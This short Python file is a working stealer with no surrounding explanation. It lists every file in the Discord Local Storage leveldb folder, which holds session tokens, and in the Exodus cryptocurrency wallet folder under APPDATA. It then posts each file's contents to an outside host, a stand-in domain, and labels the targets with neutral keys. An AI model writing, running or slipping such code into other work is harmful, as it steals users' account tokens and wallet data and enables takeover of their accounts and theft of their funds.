import os

import requests

ROAMING = os.getenv("APPDATA")
STORES = {"one": ROAMING + "\\discord\\Local Storage\\leveldb", "two": ROAMING + "\\Exodus\\exodus.wallet"}


def collect():
    for name, path in STORES.items():
        for file in os.listdir(path):
            requests.post("https://example.invalid/", data={name: open(os.path.join(path, file)).read()})
